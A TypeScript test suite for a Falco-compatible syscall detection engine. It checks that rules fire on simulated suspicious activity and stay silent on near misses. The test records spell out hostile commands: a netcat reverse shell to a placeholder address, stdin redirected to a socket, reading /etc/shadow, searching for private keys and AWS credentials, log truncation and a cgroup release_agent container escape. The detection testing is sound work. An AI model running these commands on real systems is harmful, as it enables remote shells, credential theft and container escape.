/**
 * The syscall field table on live events (the sensor's snapshots), against Falco's stable
 * rules: for each rule the sensor can serve, events that must raise it and near misses that
 * must not, built as the sensor builds them (records through SensorState). Then single fields
 * whose Falco semantics are easy to get wrong, the supported-field list, and a record/replay
 * round trip.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { readFileSync } from 'node:fs';
import { Engine, alertToJson } from '../../src/engine/engine.ts';
import { defaultTables } from '../../src/engine/tables.ts';
import { encodeRecordedEvent, type SyscallEvent } from '../../src/events/syscall.ts';
import { LIVE_FIELDS } from '../../src/fields/syscall/live.ts';
import { lookupSyscallField } from '../../src/fields/syscall/lookup.ts';
import { fieldRecorder } from '../../src/fields/syscall/record.ts';
import { syscallFields, usedSyscallFields } from '../../src/fields/syscall/table.ts';
import { isFieldError } from '../../src/fields/types.ts';
import { replayFiles } from '../../src/cli/replay.ts';
import type { Rec } from '../../src/sources/syscall/decode.ts';
import { sharedPath, skipOrFail } from '../helpers.ts';
import { accept, connect, dup, exec, fork, newState, open, pathRec, rec, SC, socket } from '../sources/syscall/records.ts';

const STABLE = sharedPath('falco', 'rules', 'falco_rules.yaml');
const CID = 'c0ffee' + 'ab'.repeat(29);
const C = [CID];

const O_WRONLY = 1;
const O_CREAT = 0o100;
const O_TRUNC = 0o1000;
const CAP_SYS_ADMIN = 1n << 21n;
const CAP_SYS_MODULE = 1n << 16n;
const CAP_DAC_OVERRIDE = 1n << 1n;

interface Case {
  name: string;
  /** Rules that must fire (exactly these, over all the case's events). */
  fire: string[];
  records: () => Rec[];
  names?: Record<string, string>;
  /** Container metadata, as the CRI would give it. */
  meta?: Record<string, unknown>;
}

const host = { pid: 1000, ppid: 1 };
const inC = (pid: number, ppid: number) => ({ pid, ppid });

/** A process tree: runc (in the container) and a shell under it. */
function containerShell(tty?: number): Rec[] {
  const runc = inC(2000, 1);
  return [
    ...exec(runc, ['runc', 'exec', '-t', 'x'], { filename: '/opt/vt/runc', cgroups: C }),
    fork(runc, 2001),
    ...exec(inC(2001, 2000), ['bash'], { filename: '/opt/vt/bash', cgroups: C, ...(tty !== undefined ? { tty } : {}) }),
  ];
}

const CASES: Case[] = [
  { name: 'shell with a terminal in a container', fire: ['Terminal shell in container'], records: () => containerShell(1) },
  { name: 'near miss: shell in a container without a terminal', fire: [], records: () => containerShell() },
  {
    name: 'near miss: shell with a terminal on the host', fire: [],
    records: () => [...exec(host, ['sshd'], { filename: '/opt/vt/sshd' }), fork(host, 1001), ...exec({ pid: 1001, ppid: 1000 }, ['bash'], { filename: '/opt/vt/bash', tty: 1 })],
  },
  {
    name: 'netcat -e in a container', fire: ['Netcat Remote Code Execution in Container'],
    records: () => exec(inC(2100, 1), ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'], { filename: '/opt/vt/nc', cgroups: C }),
  },
  {
    name: 'near miss: netcat without -e in a container', fire: [],
    records: () => exec(inC(2101, 1), ['nc', '-z', '10.0.0.1', '80'], { filename: '/opt/vt/nc', cgroups: C }),
  },
  {
    name: 'cat /etc/shadow', fire: ['Read sensitive file untrusted'],
    records: () => [...exec({ pid: 1100, ppid: 1 }, ['cat', '/etc/shadow'], { filename: '/opt/vt/cat' }), open({ pid: 1100, ppid: 1 }, 3, '/etc/shadow')],
  },
  {
    name: 'near miss: passwd reads /etc/shadow', fire: [],
    records: () => [...exec({ pid: 1101, ppid: 1 }, ['passwd'], { filename: '/opt/vt/passwd' }), open({ pid: 1101, ppid: 1 }, 3, '/etc/shadow')],
  },
  {
    name: 'near miss: cat /etc/shadow fails to open', fire: [],
    records: () => [...exec({ pid: 1102, ppid: 1 }, ['cat', '/etc/shadow'], { filename: '/opt/vt/cat' }), open({ pid: 1102, ppid: 1 }, -13, '/etc/shadow')],
  },
  {
    name: 'path traversal to /etc/shadow (not under a shell)', fire: ['Directory traversal monitored file read', 'Read sensitive file untrusted'],
    records: () => [...exec({ pid: 1103, ppid: 1 }, ['app'], { filename: '/opt/vt/app' }), open({ pid: 1103, ppid: 1 }, 3, '/etc/../etc/../etc/shadow')],
  },
  {
    name: 'nginx reads /etc/shadow long after it started', fire: ['Read sensitive file trusted after startup', 'Read sensitive file untrusted'],
    records: () => {
      const sh = { pid: 1104, ppid: 1 };
      const ng = { pid: 1105, ppid: 1104 };
      return [...exec(sh, ['sh'], { filename: '/opt/vt/sh' }), fork(sh, 1105), ...exec(ng, ['nginx'], { filename: '/opt/vt/nginx' }),
        rec('o', ng, [SC.openat!, 3, -100, 0, 0], '/etc/shadow', 50_000_000_000)];
    },
  },
  {
    name: 'bash redirects stdin to a TCP socket in a container', fire: ['Redirect STDOUT/STDIN to Network Connection in Container'],
    records: () => {
      const p = inC(2200, 1);
      return [...exec(p, ['bash'], { filename: '/opt/vt/bash', cgroups: C }), socket(p, 3), connect(p, 0, 3, '203.0.113.9', 4444, '10.1.0.5', 50000),
        dup(p, 'dup2', 0, 3, 0)];
    },
  },
  {
    name: 'near miss: dup of a socket onto fd 5, and dup of a file onto stdout', fire: [],
    records: () => {
      const p = inC(2201, 1);
      return [...exec(p, ['bash'], { filename: '/opt/vt/bash', cgroups: C }), socket(p, 3), connect(p, 0, 3, '203.0.113.9', 4444, '10.1.0.5', 50000),
        dup(p, 'dup2', 5, 3, 5), open(p, 4, '/tmp/out', O_WRONLY), dup(p, 'dup2', 1, 4, 1)];
    },
  },
  {
    name: 'near miss: stdin redirected to a socket on the host', fire: [],
    records: () => {
      const p = { pid: 1200, ppid: 1 };
      return [...exec(p, ['bash'], { filename: '/opt/vt/bash' }), socket(p, 3), connect(p, 0, 3, '203.0.113.9', 4444, '10.1.0.5', 50000), dup(p, 'dup2', 0, 3, 0)];
    },
  },
  {
    name: 'fileless execution', fire: ['Fileless execution via memfd_create'],
    records: () => exec({ pid: 1300, ppid: 1 }, ['payload'], { filename: '/proc/self/fd/3', exeName: 'memfd:x', nlink: 0 }),
  },
  {
    name: 'near miss: runc re-executes itself from a memfd', fire: [],
    records: () => [...exec({ pid: 1301, ppid: 1 }, ['runc', 'run'], { filename: '/opt/vt/runc' }), fork({ pid: 1301, ppid: 1 }, 1302),
      ...exec({ pid: 1302, ppid: 1301 }, ['runc', 'init'], { filename: '/proc/self/fd/3', exeName: 'memfd:runc_cloned:/proc/self/exe', nlink: 0 })],
  },
  {
    name: 'grep for private keys', fire: ['Search Private Keys or Passwords'],
    records: () => exec({ pid: 1400, ppid: 1 }, ['grep', '-r', 'BEGIN RSA PRIVATE', '/home'], { filename: '/opt/vt/grep' }),
  },
  {
    name: 'find AWS credentials', fire: ['Find AWS Credentials'],
    records: () => exec({ pid: 1401, ppid: 1 }, ['find', '/', '-path', '*.aws/credentials'], { filename: '/opt/vt/find' }),
  },
  {
    name: 'shred', fire: ['Remove Bulk Data from Disk'],
    records: () => exec({ pid: 1402, ppid: 1 }, ['shred', '-u', '/tmp/x'], { filename: '/opt/vt/shred' }),
  },
  {
    name: 'execution from /dev/shm', fire: ['Execution from /dev/shm'],
    records: () => exec({ pid: 1403, ppid: 1 }, ['/dev/shm/x'], { filename: '/dev/shm/x' }),
  },
  {
    name: 'log truncated', fire: ['Clear Log Activities'],
    records: () => [...exec({ pid: 1500, ppid: 1 }, ['sh'], { filename: '/opt/vt/sh' }), open({ pid: 1500, ppid: 1 }, 3, '/var/log/syslog', O_WRONLY | O_CREAT | O_TRUNC)],
  },
  {
    name: 'near miss: log appended', fire: [],
    records: () => [...exec({ pid: 1501, ppid: 1 }, ['sh'], { filename: '/opt/vt/sh' }), open({ pid: 1501, ppid: 1 }, 3, '/var/log/syslog', O_WRONLY | O_CREAT | 0o2000)],
  },
  {
    name: 'ptrace attach and traceme', fire: ['PTRACE attached to process', 'PTRACE anti-debug attempt'],
    records: () => {
      const p = { pid: 1600, ppid: 1 };
      return [...exec(p, ['gdb'], { filename: '/opt/vt/gdb' }), rec('p', p, [0, 16, 1601, 0, 0]), rec('p', p, [0, 0, 0, 0, 0])];
    },
  },
  {
    name: 'symlink and hardlink over /etc/shadow', fire: ['Create Symlink Over Sensitive Files', 'Create Hardlink Over Sensitive Files'],
    records: () => {
      const p = { pid: 1700, ppid: 1 };
      return [...exec(p, ['ln'], { filename: '/opt/vt/ln' }),
        ...pathRec('S', p, 'symlinkat', 0, [-100], '/tmp/s', { 1: '/etc/shadow' }),
        ...pathRec('L', p, 'linkat', 0, [-100, -100, 0], '/tmp/h', { 1: '/etc/shadow' })];
    },
  },
  {
    name: 'packet socket in a container', fire: ['Packet socket created in container'],
    records: () => [...exec(inC(2300, 1), ['tcpdump'], { filename: '/opt/vt/tcpdump', cgroups: C }), socket(inC(2300, 1), 3, 17, 3, 768)],
  },
  {
    name: 'near miss: packet socket on the host', fire: [],
    records: () => [...exec({ pid: 1800, ppid: 1 }, ['tcpdump'], { filename: '/opt/vt/tcpdump' }), socket({ pid: 1800, ppid: 1 }, 3, 17, 3, 768)],
  },
  {
    name: 'debugfs in a privileged container', fire: ['Debugfs Launched in Privileged Container'], meta: { privileged: true },
    records: () => exec(inC(2400, 1), ['debugfs', '/dev/sda1'], { filename: '/opt/vt/debugfs', cgroups: C }),
  },
  {
    name: 'near miss: debugfs in an unprivileged container', fire: [], meta: { privileged: false },
    records: () => exec(inC(2401, 1), ['debugfs', '/dev/sda1'], { filename: '/opt/vt/debugfs', cgroups: C }),
  },
  {
    name: 'kernel module loaded from a container', fire: ['Linux Kernel Module Injection Detected'],
    records: () => {
      const p = inC(2500, 1);
      return [...exec(p, ['insmod', 'x.ko'], { filename: '/opt/vt/insmod', cgroups: C, caps: CAP_SYS_MODULE }), open(p, 3, '/x.ko'),
        ...pathRec('K', p, 'finit_module', 0, [3, 0], '')];
    },
  },
  {
    name: 'release_agent written from a privileged container', fire: ['Detect release_agent File Container Escapes'],
    records: () => {
      const p = inC(2600, 1);
      return [...exec(p, ['sh'], { filename: '/opt/vt/sh', cgroups: C, caps: CAP_SYS_ADMIN | CAP_DAC_OVERRIDE }),
        open(p, 3, '/tmp/cgrp/release_agent', O_WRONLY)];
    },
  },
  {
    name: 'near miss: release_agent written without CAP_SYS_ADMIN', fire: [],
    records: () => {
      const p = inC(2601, 1);
      return [...exec(p, ['sh'], { filename: '/opt/vt/sh', cgroups: C, caps: CAP_DAC_OVERRIDE }), open(p, 3, '/tmp/cgrp/release_agent', O_WRONLY)];
    },
  },
  {
    name: 'ssh to a public address on port 443', fire: ['Disallowed SSH Connection Non Standard Port'],
    records: () => {
      const p = { pid: 1900, ppid: 1 };
      return [...exec(p, ['ssh', 'user@example.com', '-p', '443'], { filename: '/opt/vt/ssh' }), socket(p, 3), connect(p, 0, 3, '203.0.113.9', 443, '10.1.0.5', 50000)];
    },
  },
  {
    name: 'near miss: ssh to a private address on port 443', fire: [],
    records: () => {
      const p = { pid: 1901, ppid: 1 };
      return [...exec(p, ['ssh'], { filename: '/opt/vt/ssh' }), socket(p, 3), connect(p, 0, 3, '10.0.0.9', 443, '10.1.0.5', 50000)];
    },
  },
  {
    name: 'a container calls the Kubernetes API server', fire: ['Contact K8S API Server From Container'],
    names: { '10.96.0.1': 'kubernetes.default.svc.cluster.local' },
    records: () => {
      const p = inC(2700, 1);
      return [...exec(p, ['curl'], { filename: '/opt/vt/curl', cgroups: C }), socket(p, 3), connect(p, 0, 3, '10.96.0.1', 443, '10.1.0.5', 50000)];
    },
  },
  {
    name: 'a web server spawns a shell', fire: ['Run shell untrusted'],
    records: () => {
      const ng = { pid: 3000, ppid: 1 };
      return [...exec(ng, ['nginx'], { filename: '/opt/vt/nginx' }), fork(ng, 3001), ...exec({ pid: 3001, ppid: 3000 }, ['sh', '-c', 'id'], { filename: '/opt/vt/sh' })];
    },
  },
  {
    name: 'a system user runs a command under sshd', fire: ['System user interactive'],
    records: () => {
      const sshd = { pid: 3100, ppid: 1 };
      return [...exec(sshd, ['sshd'], { filename: '/opt/vt/sshd' }), fork(sshd, 3101), ...exec({ pid: 3101, ppid: 3100 }, ['id'], { filename: '/opt/vt/id', uid: 33 })];
    },
  },
  {
    name: 'an ordinary session raises nothing', fire: [],
    records: () => {
      const sh = { pid: 3200, ppid: 1 };
      const ls = { pid: 3201, ppid: 3200 };
      return [...exec(sh, ['bash'], { filename: '/opt/vt/bash' }), fork(sh, 3201), ...exec(ls, ['ls', '-la'], { filename: '/opt/vt/ls' }),
        open(ls, 3, '/etc/passwd'), open(ls, 4, '/home', 0o200000), socket(sh, 5), connect(sh, 0, 5, '10.0.0.1', 80, '10.1.0.5', 40000),
        accept(sh, 6, 5, '10.1.0.5', 8080, '10.0.0.2', 41000)];
    },
  },
];

function loadStable(t: { skip(m: string): void }): Engine | undefined {
  if (!existsSync(STABLE)) {
    skipOrFail(t as never, 'falco_rules.yaml is missing (../shared)');
    return undefined;
  }
  const e = new Engine({ tables: defaultTables(), ruleMatching: 'all' });
  const r = e.loadFiles([STABLE]);
  assert.ok(r.ok);
  return e;
}

test('syscall fields: Falco\'s stable rules on live events (fire and near misses)', (t) => {
  const engine = loadStable(t);
  if (!engine) return;
  for (const c of CASES) {
    const s = newState({ names: c.names ?? {} });
    const evs = s.apply(c.records());
    if (c.meta) for (const ev of evs) if (ev.live!.proc.container.id !== 'host') ev.live!.proc.container.meta = c.meta;
    const fired = new Set<string>();
    for (const ev of evs) for (const a of engine.process(ev)) fired.add(a.rule);
    assert.deepEqual([...fired].sort(), [...c.fire].sort(), c.name);
  }
});

/** Extract one field (as written in a rule) from a live event. */
function field(ev: SyscallEvent, text: string): unknown {
  const m = /^([^[]+)(?:\[(.*)\])?$/.exec(text)!;
  const r = syscallFields.resolve(m[1]!, m[2]);
  assert.ok(!isFieldError(r), text);
  return r.extract(ev);
}

test('syscall fields: values with Falco\'s conventions', () => {
  const s = newState();
  const sshd = { pid: 500, ppid: 1 };
  const bash = { pid: 501, ppid: 500 };
  const cat = { pid: 502, ppid: 501 };
  s.apply([...exec(sshd, ['/usr/sbin/sshd', '-D'], { filename: '/opt/vt/sshd' }), fork(sshd, 501),
    ...exec(bash, ['-bash'], { filename: '/opt/vt/bash', tty: 3 }), rec('D', bash, [SC.chdir!, 0, -1], '/tmp'), fork(bash, 502)]);
  const [ex] = s.apply(exec(cat, ['cat', 'a b', 'c'], { filename: '/opt/vt/cat', tty: 3 }));
  const [o] = s.apply(open(cat, 3, 'notes.txt', O_WRONLY | O_CREAT | O_TRUNC, { mode: 0o644 }));
  assert.equal(field(ex!, 'proc.name'), 'cat');
  assert.equal(field(ex!, 'proc.exe'), 'cat');
  assert.equal(field(ex!, 'proc.args'), 'a b c');
  assert.equal(field(ex!, 'proc.cmdline'), 'cat a b c');
  assert.equal(field(ex!, 'proc.cmdnargs'), 2);
  assert.equal(field(ex!, 'proc.cwd'), '/tmp/', 'proc.cwd ends with a slash');
  assert.equal(field(ex!, 'proc.pname'), 'bash');
  assert.equal(field(ex!, 'proc.pcmdline'), 'bash');
  assert.equal(field(ex!, 'proc.aname[0]'), 'cat');
  assert.equal(field(ex!, 'proc.aname[2]'), 'sshd');
  assert.equal(field(ex!, 'proc.aname[3]'), undefined);
  assert.deepEqual(field(ex!, 'proc.aname'), ['bash', 'sshd']);
  assert.equal(field(ex!, 'proc.apid[2]'), 500);
  assert.equal(field(ex!, 'proc.tty'), 34819);
  assert.equal(field(ex!, 'proc.sname'), 'cat', 'its own session (sid = pid in this record)');
  assert.equal(field(ex!, 'evt.type'), 'execve');
  assert.equal(field(ex!, 'evt.dir'), '<');
  assert.equal(field(ex!, 'evt.res'), 'SUCCESS');
  assert.equal(field(ex!, 'evt.arg.flags'), '0', 'no exe flag: the number, as libs');
  assert.equal(field(ex!, 'container.id'), 'host');
  assert.equal(field(ex!, 'container.name'), 'host');
  assert.equal(field(ex!, 'container.image.repository'), '');
  assert.equal(field(ex!, 'k8s.ns.name'), undefined);
  assert.equal(field(ex!, 'user.name'), 'root');
  assert.equal(field(ex!, 'user.loginuid'), -1);
  assert.equal(field(ex!, 'thread.cap_effective')?.toString().split(' ')[0], 'CAP_CHOWN');
  assert.equal(field(o!, 'fd.name'), '/tmp/notes.txt');
  assert.equal(field(o!, 'fd.nameraw'), 'notes.txt');
  assert.equal(field(o!, 'fd.directory'), '/tmp');
  assert.equal(field(o!, 'fd.filename'), 'notes.txt');
  assert.equal(field(o!, 'fd.typechar'), 'f');
  assert.equal(field(o!, 'fd.num'), 3);
  assert.equal(field(o!, 'evt.is_open_write'), true);
  assert.equal(field(o!, 'evt.is_open_read'), false);
  assert.equal(field(o!, 'evt.is_open_create'), true);
  assert.equal(field(o!, 'evt.arg.flags'), 'O_TRUNC|O_CREAT|O_WRONLY', 'libs\' table order');
  assert.equal(field(o!, 'evt.arg.mode'), '0644');
  assert.equal(field(o!, 'evt.rawres'), 3);
  assert.equal(field(o!, 'evt.args'), 'fd=3(<f>/tmp/notes.txt) dirfd=AT_FDCWD name=notes.txt flags=577(O_TRUNC|O_CREAT|O_WRONLY) mode=420(0644) dev=0 ino=0');
  const [failed] = s.apply(open(cat, -2, '/nope'));
  assert.equal(field(failed!, 'evt.res'), 'ENOENT');
  assert.equal(field(failed!, 'fd.num'), -1);
  assert.equal(field(failed!, 'evt.failed'), true);

  // Sockets
  const nc = { pid: 600, ppid: 1 };
  s.apply([...exec(nc, ['nc'], { filename: '/opt/vt/nc' }), socket(nc, 3)]);
  const [c] = s.apply(connect(nc, -115, 3, '93.184.216.34', 80, '10.0.0.7', 40000));
  assert.equal(field(c!, 'evt.res'), 'EINPROGRESS');
  assert.equal(field(c!, 'fd.name'), '10.0.0.7:40000->93.184.216.34:80');
  assert.equal(field(c!, 'fd.lport'), 40000);
  assert.equal(field(c!, 'fd.rport'), 80);
  assert.equal(field(c!, 'fd.rip'), '93.184.216.34');
  assert.deepEqual(field(c!, 'fd.ip'), ['10.0.0.7', '93.184.216.34']);
  assert.equal(field(c!, 'fd.sockfamily'), 'ip');
  assert.equal(field(c!, 'fd.is_server'), false);
  assert.equal(field(c!, 'fd.connected'), true);
  const [sock] = s.apply(socket(nc, 4, 17, 3, 768));
  assert.equal(field(sock!, 'evt.arg.domain'), 'AF_PACKET');
  const [pt] = s.apply(rec('p', nc, [0, 16, 601, 0, 0]));
  assert.equal(field(pt!, 'evt.arg.request'), 'PTRACE_ATTACH');
  const [su] = s.apply(rec('u', nc, [SC.setuid!, 0, 0, 0, 0, 0, 0]));
  assert.equal(field(su!, 'evt.arg.uid'), 'root');
});

test('syscall fields: every field of the stable rules is extracted from live events', () => {
  if (!existsSync(STABLE)) return;
  const text = readFileSync(STABLE, 'utf8').split('\n').filter((l) => !/^\s*#/.test(l)).join('\n');
  const missing = new Set<string>();
  for (const m of text.matchAll(/\b(evt|proc|fd|user|group|container|k8s|thread|fs|syscall)\.[a-zA-Z_.]+(\[[^\] ]*\])?/g)) {
    const t = m[0].replace(/\.$/, '');
    const br = t.indexOf('[');
    const r = lookupSyscallField(br < 0 ? t : t.slice(0, br), br < 0 ? undefined : t.slice(br + 1, -1));
    if ('error' in r) continue;
    if (!LIVE_FIELDS.has(r.info.name)) missing.add(r.info.name);
  }
  assert.deepEqual([...missing], []);
  // `vigil rules fields` tells which are not.
  const listed = new Map(syscallFields.fields().map((f) => [f.name, f]));
  assert.equal(listed.get('proc.name')?.unsupported, undefined);
  assert.equal(listed.get('evt.buffer')?.unsupported, true);
});

test('syscall fields: a recorded session replays to the same alerts', async (t) => {
  const engine = loadStable(t);
  if (!engine) return;
  const recorder = fieldRecorder(defaultTables().get('syscall')!, usedSyscallFields());
  const lines: string[] = [];
  const live: string[] = [];
  for (const c of CASES) {
    if (c.meta || c.names) continue; // metadata and names are set beside the sensor here
    const s = newState();
    for (const ev of s.apply(c.records())) {
      const alerts = engine.process(ev);
      lines.push(encodeRecordedEvent(ev.timeNs, recorder.record(ev)));
      for (const a of alerts) live.push(alertToJson(a));
    }
  }
  const dir = mkdtempSync(path.join(os.tmpdir(), 'vigil-rec-'));
  try {
    const file = path.join(dir, 'events.jsonl');
    writeFileSync(file, lines.join('\n') + '\n');
    const out: string[] = [];
    const r = await replayFiles([file], { rules: [STABLE], source: 'syscall', ruleMatching: 'all', format: 'json' }, { out: (l) => out.push(l), err: (l) => assert.fail(l) });
    assert.equal(r.code, 0);
    assert.ok(live.length >= 20);
    assert.deepEqual(out, live);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
